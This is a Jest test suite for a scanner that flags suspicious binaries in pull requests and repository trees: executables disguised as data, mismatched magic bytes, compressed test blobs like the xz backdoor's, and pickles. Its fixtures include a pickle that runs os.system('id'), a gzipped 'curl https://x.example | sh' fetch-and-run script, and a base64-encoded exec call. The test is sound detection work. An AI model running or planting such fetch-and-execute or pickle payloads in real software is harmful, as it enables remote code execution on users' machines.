// Opaque binaries: what a file is (magic bytes), how random it looks, and
// whether it is a change (PR) or inventory (tree).
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import {
  analyseBinary,
  analyseFile,
  binaryOnlyChange,
  BlobAnalyser,
  isRasterImage
} from '@security-actions/core/content';
import { expectFires, expectQuiet } from '../helpers/rules';
import { noise } from '../pr-anomaly-scan/corpus/cases';
import { REPO_ROOT } from '../harness/run-action';
import { severities } from './helpers';

const facts = (bytes: Buffer) => {
  const a = new BlobAnalyser();
  a.chunk(bytes.subarray(0, 100));
  a.chunk(bytes.subarray(100));
  return a.facts();
};
const ELF = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), Buffer.alloc(600), noise(400, 9)]);
const XZ = Buffer.concat([Buffer.from('\xfd7zXZ\x00', 'latin1'), noise(478, 5)]);
const GZIP = Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), noise(5000, 21)]);
const PICKLE = Buffer.concat([Buffer.from([0x80, 0x04, 0x95]), Buffer.from("cos\nsystem\n(S'id'\ntR.", 'latin1')]);
const HDF5 = Buffer.concat([Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'), Buffer.alloc(3000), noise(500, 3)]);
const PNG = Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR', 'latin1'), Buffer.alloc(300, 7)]);
// sunpy@061c4f4b67ad's docs/whatsnew/8.0-phi-map-inc.png starts so: a lossless WebP.
const WEBP = Buffer.concat([Buffer.from('RIFF,\x9c\x01\x00WEBPVP8L\x1f\x9c\x01\x00', 'latin1'), noise(3000, 12)]);

describe('binary/executable', () => {
  it('fires high on an ELF disguised as test data in a change', async () => {
    const f = await analyseBinary('tests/data/sample.dat', facts(ELF), { status: 'added' });
    expectFires(f, 'binary/executable', 1);
    expect(severities(f, 'binary/executable')).toEqual(['high']);
  });

  it('keeps test pickles in a tree at low (compatibility fixtures, shapely, boost-histogram)', async () => {
    expect(severities(await analyseFile('tests/pickles/bh_0.10.2.pkl', PICKLE), 'binary/executable')).toEqual(['low']);
  });

  it('is quiet on data formats', async () => {
    const found1 = await analyseBinary('tests/data/grid.h5', facts(HDF5), { status: 'added' });
    expectQuiet(found1, 'binary/executable');
  });
});

describe('binary/opaque-file', () => {
  it('fires when content contradicts a known extension', async () => {
    const found2 = await analyseBinary('src/pkg/data/weights.npy', facts(GZIP), { status: 'added' });
    expectFires(found2, 'binary/opaque-file', 1);
  });

  it('rates one raster image format under another image extension medium in a change, low in a tree (sunpy WebP as .png)', async () => {
    const change = await analyseBinary('docs/whatsnew/8.0-phi-map-inc.png', facts(WEBP), { status: 'added' });
    expect(severities(change, 'binary/opaque-file')).toEqual(['medium']);
    expect(change[0].message).toContain('image/webp');
    expect(severities(await analyseFile('docs/whatsnew/8.0-phi-map-inc.png', WEBP), 'binary/opaque-file')).toEqual([
      'low'
    ]);
  });

  it('keeps a mismatch involving executables, archives or compressed data high', async () => {
    // Compressed data or an archive under an image name, an image under a data format's name, an executable as an image.
    const gz = await analyseBinary('docs/figure.png', facts(GZIP), { status: 'added' });
    expect(severities(gz, 'binary/opaque-file')).toEqual(['high']);
    const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), noise(2000, 4)]);
    expect(
      severities(await analyseBinary('docs/logo.jpg', facts(zip), { status: 'added' }), 'binary/opaque-file')
    ).toEqual(['high']);
    const png = await analyseBinary('src/pkg/data/weights.npy', facts(PNG), { status: 'added' });
    expect(severities(png, 'binary/opaque-file')).toEqual(['high']);
    const elf = await analyseBinary('docs/figure.png', facts(ELF), { status: 'added' });
    expect(severities(elf, 'binary/executable')).toEqual(['high']);
    // A PNG that is a PNG is no finding at all.
    expect(await analyseBinary('docs/figure.png', facts(PNG), { status: 'added' })).toEqual([]);
  });

  it('does not judge containers scientific formats build on (MINC is HDF5, GeoPackage is SQLite)', async () => {
    const found3 = await analyseBinary('nibabel/tests/data/small.mnc', facts(HDF5), { status: 'added' });
    expectQuiet(found3, 'binary/opaque-file');
  });
});

describe('scientific data formats are recognised by their magic, not judged as random blobs', () => {
  // Each a header and compressed-looking payload: before the format was known, an unrecognised random binary
  // under a data folder was high.
  const FORMATS: [string, string, Buffer][] = [
    // pyhf@7fbbf9c4eb7c validation/multichannel_histfactory/data/data.root starts so (TFile version 61000).
    [
      'ROOT',
      'validation/multichannel_histfactory/data/data.root',
      Buffer.from('root\x00\x00\xeeH\x00\x00\x00d', 'latin1')
    ],
    ['ASDF', 'tests/data/example.asdf', Buffer.from('#ASDF 1.0.0\n#ASDF_STANDARD 1.5.0\n%YAML 1.1\n', 'latin1')],
    ['Arrow', 'tests/data/table.arrow', Buffer.from('ARROW1\x00\x00\xff\xff\xff\xff', 'latin1')],
    ['Feather v2', 'tests/data/frame.feather', Buffer.from('ARROW1\x00\x00\xff\xff\xff\xff', 'latin1')],
    ['Feather v1', 'tests/data/frame_v1.feather', Buffer.from('FEA1\x00\x00\x00\x00', 'latin1')],
    ['IDL save', 'tests/data/spectrum.sav', Buffer.from('SR\x00\x04\x00\x00\x00\x0a', 'latin1')],
    ['GRIB', 'tests/data/era5.grib', Buffer.from('GRIB\x00\x00\x00\x02', 'latin1')],
    ['Avro', 'tests/data/records.avro', Buffer.from('Obj\x01\x04\x14avro.codec', 'latin1')],
    ['netCDF (CDF-5)', 'tests/data/big.nc', Buffer.from('CDF\x05\x00\x00\x00\x00', 'latin1')]
  ];
  it.each(FORMATS)('%s added under a data folder is no finding', async (_name, path, header) => {
    const bytes = Buffer.concat([header, noise(4000, 17)]);
    expect(await analyseBinary(path, facts(bytes), { status: 'added' })).toEqual([]);
  });

  it('still reports another format under their names (an ELF as .root, a gzip as .sav)', async () => {
    expect(
      severities(await analyseBinary('tests/data/data.root', facts(ELF), { status: 'added' }), 'binary/executable')
    ).toEqual(['high']);
    expect(
      severities(await analyseBinary('tests/data/spectrum.sav', facts(GZIP), { status: 'added' }), 'binary/opaque-file')
    ).toEqual(['high']);
  });
});

describe('binary/compressed-test-data', () => {
  it('fires on an xz blob added under tests (xz-utils)', async () => {
    const f = await analyseBinary('tests/files/bad-3-corrupt_lzma2.xz', facts(XZ), { status: 'added' });
    expectFires(f, 'binary/compressed-test-data', 1);
    expect(severities(f, 'binary/compressed-test-data')).toEqual(['medium']);
  });

  it('is low for compressed fixtures already in a tree', async () => {
    expect(severities(await analyseFile('tests/files/good-1.xz', XZ), 'binary/compressed-test-data')).toEqual(['low']);
  });

  it('is quiet on containers that are fine under tests (npz)', async () => {
    const npz = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), noise(2000, 4)]);
    const found4 = await analyseBinary('tests/data/arrays.npz', facts(npz), { status: 'added' });
    expectQuiet(found4, 'binary/compressed-test-data');
  });
});

// A zip as Python's zipfile writes one to a file: local headers with the sizes, then the central directory.
function makeZip(members: { name: string; data: Buffer; stored?: boolean; crc?: number; descriptor?: boolean }[]) {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const m of members) {
    const body = m.stored ? m.data : deflateRawSync(m.data);
    const crc = m.crc ?? crc32(m.data);
    const h = Buffer.alloc(30);
    h.writeUInt32LE(0x04034b50, 0);
    h.writeUInt16LE(20, 4);
    h.writeUInt16LE(m.descriptor ? 8 : 0, 6);
    h.writeUInt16LE(m.stored ? 0 : 8, 8);
    if (!m.descriptor) {
      h.writeUInt32LE(crc, 14);
      h.writeUInt32LE(body.length, 18);
      h.writeUInt32LE(m.data.length, 22);
    }
    h.writeUInt16LE(m.name.length, 26);
    const desc = Buffer.alloc(m.descriptor ? 16 : 0);
    if (m.descriptor) {
      desc.writeUInt32LE(0x08074b50, 0);
      desc.writeUInt32LE(crc, 4);
      desc.writeUInt32LE(body.length, 8);
      desc.writeUInt32LE(m.data.length, 12);
    }
    const local = Buffer.concat([h, Buffer.from(m.name), body, desc]);
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(m.descriptor ? 8 : 0, 8);
    c.writeUInt16LE(m.stored ? 0 : 8, 10);
    c.writeUInt32LE(crc, 16);
    c.writeUInt32LE(body.length, 20);
    c.writeUInt32LE(m.data.length, 24);
    c.writeUInt16LE(m.name.length, 28);
    c.writeUInt32LE(offset, 42);
    central.push(c, Buffer.from(m.name));
    locals.push(local);
    offset += local.length;
  }
  const dir = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(members.length, 8);
  end.writeUInt16LE(members.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, dir, end]);
}

/** Facts of a blob fed in chunks of `size` bytes, as git streams it. */
const chunked = (bytes: Buffer, size: number) => {
  const a = new BlobAnalyser();
  for (let i = 0; i < bytes.length; i += size) a.chunk(bytes.subarray(i, i + size));
  return a.facts();
};

describe('binary/compressed-test-data: gzip and zip are looked into', () => {
  const REAL = join(REPO_ROOT, 'test/fixtures/real');
  const real = (p: string) => readFileSync(join(REAL, p));
  const compressed = async (path: string, bytes: Buffer, status = 'added') =>
    (await analyseBinary(path, facts(bytes), { status })).filter((f) => f.ruleId === 'binary/compressed-test-data');
  const FITS = Buffer.concat([
    Buffer.from('SIMPLE  =                    T / conforms to FITS standard'.padEnd(2880, ' '), 'latin1'),
    noise(5760, 8)
  ]);
  const CSV = Buffer.from(
    Array.from({ length: 4000 }, (_, i) => `${i},${Math.sin(i).toFixed(6)},${Math.cos(i * 7).toFixed(9)}\n`).join(''),
    'latin1'
  );

  it('astroquery@003f17700983: a gzip of the VOTable added beside it is low, naming what is inside', async () => {
    const f = await compressed(
      'astroquery/utils/tap/model/tests/data/result_1.vot.gz',
      real('astroquery-vot-gz/head/astroquery/utils/tap/model/tests/data/result_1.vot.gz')
    );
    expect(f.map((x) => x.severity)).toEqual(['low']);
    expect(f[0].message).toContain('gzip of VOTable XML');
    expect(f[0].properties?.inside).toBe('gzip of VOTable XML');
  });

  it('astroquery@c7eb4b49103d: a zip of FITS files mocking an archive download is low', async () => {
    for (const name of ['1499442653027920313.fits.zip', 'get_spectrum_output.zip']) {
      const bytes = real(`astroquery-euclid-zip/head/astroquery/esa/euclid/tests/data/${name}`);
      const f = await compressed(`astroquery/esa/euclid/tests/data/${name}`, bytes);
      expect(f.map((x) => x.severity)).toEqual(['low']);
      expect(f[0].message).toContain('zip of 1 FITS file and 1 empty file');
      // The same, streamed a byte at a time.
      const slow = await analyseBinary(`tests/data/${name}`, chunked(bytes, 1), { status: 'added' });
      expect(slow.map((x) => `${x.severity} ${x.properties?.inside}`)).toEqual([
        'low zip of 1 FITS file and 1 empty file'
      ]);
    }
  });

  it('arviz@d6a032587c91: a gzip of a CSV trace under doc/data is low, also when only its start is inflated', async () => {
    const f = await compressed(
      'doc/data/centered_eight_trace.gzip',
      real('arviz-gzip-trace/head/doc/data/centered_eight_trace.gzip')
    );
    expect(f.map((x) => x.severity)).toEqual(['low']);
    expect(f[0].message).toContain('gzip of CSV text (centered_eight_trace.gzip)');
    // The real files are 154 and 322 kB: more than is kept, so only their start is inflated.
    const big = gzipSync(Buffer.concat([CSV, CSV, CSV, CSV, CSV, CSV, CSV, CSV, CSV, CSV]), { level: 1 });
    expect(big.length).toBeGreaterThan(128 * 1024);
    expect((await compressed('doc/data/trace.gzip', big)).map((x) => `${x.severity} ${x.properties?.inside}`)).toEqual([
      'low gzip of CSV text'
    ]);
  });

  it('names data formats and images inside, when they agree with their names', async () => {
    const zip = makeZip([
      { name: 'a.fits', data: FITS },
      { name: 'b.h5', data: Buffer.concat([Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'), noise(900, 2)]), stored: true },
      { name: 'c.png', data: PNG },
      { name: 'notes.txt', data: Buffer.from('made with make_data.py\n') },
      { name: 'sub/', data: Buffer.alloc(0), stored: true }
    ]);
    const f = await compressed('tests/data/bundle.zip', zip);
    expect(f.map((x) => x.severity)).toEqual(['low']);
    expect(f[0].properties?.inside).toBe('zip of 1 FITS file, 1 HDF5 file, 1 PNG image file and 1 text file');
  });

  it('keeps the xz alarm for what zlib cannot open (xz, lzma) and says it was not looked into', async () => {
    // Equivalents of xz@cf44e4b7f5df's tests/files/bad-3-corrupt_lzma2.xz and good-large_compressed.lzma: their
    // headers, then compressed-looking bytes (the real files carry the backdoor's payload and are not copied here).
    const f = await compressed('tests/files/bad-3-corrupt_lzma2.xz', XZ);
    expect(f.map((x) => x.severity)).toEqual(['medium']);
    expect(f[0].message).toContain('not looked into');
    const lzma = Buffer.concat([Buffer.from([0x5d, 0x00, 0x00, 0x80, 0x00, 0xff, 0xff]), noise(35000, 6)]);
    expect((await compressed('tests/files/good-large_compressed.lzma', lzma)).map((x) => x.severity)).toEqual([
      'medium'
    ]);
  });

  it('keeps medium when the stream does not inflate (a corrupt gzip, a member failing its CRC)', async () => {
    const f = await compressed('tests/files/bad-1.gz', GZIP);
    expect(f.map((x) => x.severity)).toEqual(['medium']);
    expect(f[0].message).toContain('does not inflate');
    const broken = gzipSync(CSV);
    broken[broken.length >> 1] ^= 0xff;
    expect((await compressed('tests/files/bad-2.gz', broken)).map((x) => x.severity)).toEqual(['medium']);
    const crc = makeZip([{ name: 'a.csv', data: CSV, crc: 1 }]);
    const c = await compressed('tests/data/a.zip', crc);
    expect(c.map((x) => `${x.severity} ${x.properties?.inside}`)).toEqual([
      'medium zip of 1 member failing its CRC file; not inert: a.csv'
    ]);
  });

  it('is high for an executable or a pickle inside, wherever it sits in the archive', async () => {
    const elf = await compressed('tests/data/sample.csv.gz', gzipSync(ELF));
    expect(elf.map((x) => `${x.severity} ${x.properties?.inside}`)).toEqual(['high gzip of ELF executable']);
    // The pickle comes after 200 kB of stored noise: the walk reaches it as the blob streams past.
    const zip = makeZip([
      { name: 'big.dat', data: noise(200_000, 4), stored: true },
      { name: 'model.pkl', data: PICKLE }
    ]);
    const f = await analyseBinary('tests/data/mock.zip', chunked(zip, 65536), { status: 'added' });
    expect(f.map((x) => x.severity)).toEqual(['high']);
    expect(f[0].properties?.inside).toContain('1 pickle file');
    expect(f[0].properties?.inside).toContain('not inert: big.dat, model.pkl');
  });

  it("keeps a gzipped pickle already in a tree's tests at low, as a bare one (numpy's generator states)", async () => {
    // numpy@1f90bbb55e65 numpy/random/tests/data/generator_pcg64_np126.pkl.gz: pickled states its tests load.
    const gz = gzipSync(PICKLE);
    const tree = await analyseBinary('numpy/random/tests/data/sfc64_np126.pkl.gz', chunked(gz, 65536), {
      status: 'present'
    });
    expect(tree.map((x) => `${x.severity} ${x.properties?.inside}`)).toEqual(['low gzip of pickle']);
    const added = await analyseBinary('numpy/random/tests/data/sfc64_np126.pkl.gz', chunked(gz, 65536), {
      status: 'added'
    });
    expect(added.map((x) => x.severity)).toEqual(['high']);
    // An executable inside stays medium in a tree.
    const elf = await analyseBinary('tests/data/sample.csv.gz', chunked(gzipSync(ELF), 65536), { status: 'present' });
    expect(elf.map((x) => x.severity)).toEqual(['medium']);
  });

  it('keeps medium for source, nested compression, a format under another name, or members it could not reach', async () => {
    const cases: [string, Buffer, string][] = [
      ['tests/files/run.gz', gzipSync(Buffer.from('#!/bin/sh\ncurl https://x.example | sh\n')), 'gzip of script'],
      ['tests/files/build.py.gz', gzipSync(Buffer.from('import os\nos.system("id")\n')), 'gzip of .py source'],
      ['tests/files/twice.gz', gzipSync(gzipSync(CSV)), 'gzip of gzip inside'],
      [
        'tests/data/table.zip',
        makeZip([{ name: 'table.csv', data: FITS }]),
        'zip of 1 FITS named .csv file; not inert: table.csv'
      ],
      [
        'tests/data/streamed.zip',
        makeZip([{ name: 'a.fits', data: Buffer.concat([FITS, noise(600_000, 3)]), stored: true, descriptor: true }]),
        'zip of 1 FITS file; the sizes of a.fits are not in its header, so later members were not looked at'
      ]
    ];
    for (const [path, bytes, inside] of cases) {
      const f = await compressed(path, bytes);
      expect(f.map((x) => `${x.severity} ${x.properties?.inside}`)).toEqual([`medium ${inside}`]);
    }
  });

  it('reads a small zip written to a stream (sizes after the data) from its central directory, and sees bytes outside its members', async () => {
    const streamed = makeZip([
      { name: 'a.fits', data: FITS, descriptor: true },
      { name: 'b.csv', data: CSV, descriptor: true }
    ]);
    expect(
      (await compressed('tests/data/s.zip', streamed)).map((x) => `${x.severity} ${x.properties?.inside}`)
    ).toEqual(['low zip of 1 FITS file and 1 CSV text file']);
    const appended = Buffer.concat([streamed, gzipSync(ELF)]);
    expect(
      (await compressed('tests/data/s.zip', appended)).map((x) => `${x.severity} ${x.properties?.inside}`)
    ).toEqual(['medium zip of 1 FITS file and 1 CSV text file; bytes outside its members']);
  });

  it('keeps medium for a zip too damaged to walk, and never throws', async () => {
    const streamed = makeZip([{ name: 'a.fits', data: FITS, descriptor: true }]);
    for (const cut of [8, 40, 300, streamed.length - 30, streamed.length - 10]) {
      const f = await compressed('tests/data/cut.zip', streamed.subarray(0, cut));
      expect(f.map((x) => x.severity)).toEqual(['medium']);
    }
    const damaged = Buffer.from(streamed);
    damaged.writeUInt32LE(0xfffffff0, damaged.length - 6); // the directory's offset, past the end
    expect((await compressed('tests/data/bad.zip', damaged)).map((x) => x.severity)).toEqual(['medium']);
  });

  it('is low in a tree whatever is inside, but for an executable (medium)', async () => {
    expect(
      severities(
        await analyseFile('tests/files/run.gz', gzipSync(Buffer.from('#!/bin/sh\nid\n'))),
        'binary/compressed-test-data'
      )
    ).toEqual(['low']);
    expect(severities(await analyseFile('tests/files/x.gz', gzipSync(ELF)), 'binary/compressed-test-data')).toEqual([
      'medium'
    ]);
  });
});

describe('binary/binary-only-change', () => {
  it('fires when binaries change and no text does (xz 5.6.1)', () => {
    const f = binaryOnlyChange([{ path: 'tests/files/bad-3.xz', status: 'modified', sha: 'a'.repeat(40) }], false);
    expectFires(f, 'binary/binary-only-change', 1);
    expect(severities(f, 'binary/binary-only-change')).toEqual(['high']);
  });

  it('is low when every changed binary is a raster image (regenerated screenshots, jupyter/notebook@ef403e714ae5)', async () => {
    const shot = 'ui-tests/test/menus.spec.ts-snapshots/opened-menu-chromium-linux.png';
    expect(await isRasterImage(shot, PNG)).toBe(true);
    const f = binaryOnlyChange([{ path: shot, status: 'modified', sha: 'a'.repeat(40), raster: true }], false);
    expectFires(f, 'binary/binary-only-change', 1);
    expect(severities(f, 'binary/binary-only-change')).toEqual(['low']);
    expect(f[0].message).toContain('raster image');
  });

  it('stays high when any binary is not a raster image, or its magic does not match an image extension (xz)', async () => {
    expect(await isRasterImage('tests/files/bad-3.xz', XZ)).toBe(false);
    expect(await isRasterImage('tests/files/bad-3.png', XZ)).toBe(false);
    expect(await isRasterImage('tests/files/bad-3.xz', PNG)).toBe(false);
    expect(await isRasterImage('tests/data/scan.tiff', Buffer.from('II*\x00\x08\x00\x00\x00', 'latin1'))).toBe(false);
    expect(await isRasterImage('docs/phi.png', WEBP)).toBe(true);
    const sha = 'a'.repeat(40);
    const mixed = binaryOnlyChange(
      [
        { path: 'docs/a.png', status: 'modified', sha, raster: true },
        { path: 'tests/files/bad-3.xz', status: 'modified', sha, raster: false }
      ],
      false
    );
    expect(severities(mixed, 'binary/binary-only-change')).toEqual(['high']);
    // Not known to be an image (its facts could not be read): unchanged.
    const unknown = binaryOnlyChange([{ path: 'docs/a.png', status: 'modified', sha }], false);
    expect(severities(unknown, 'binary/binary-only-change')).toEqual(['high']);
  });

  it('is quiet when text changes too', () => {
    const found5 = binaryOnlyChange([{ path: 'tests/files/bad-3.xz', status: 'modified', sha: 'a'.repeat(40) }], true);
    expectQuiet(found5, 'binary/binary-only-change');
  });
});

describe('analyseFile', () => {
  const header = 'SIMPLE  =                    T\nexec(b64decode("aWQ="))\n'.padEnd(8640, ' ');

  it('reads a Latin-1 source file as text', async () => {
    const found6 = await analyseFile('legacy/readme.py', Buffer.from(`# caf\xe9\n${header}`, 'latin1'));
    expectFires(found6, 'obfuscation/encoded-exec');
  });

  it('treats a file that is not UTF-8 and holds control bytes as binary, even with a text header (FITS)', async () => {
    const fits = Buffer.concat([Buffer.from(header, 'latin1'), noise(3000, 7)]);
    const found7 = await analyseFile('legacy/readme.py', fits);
    expectQuiet(found7, 'obfuscation/encoded-exec');
  });
});
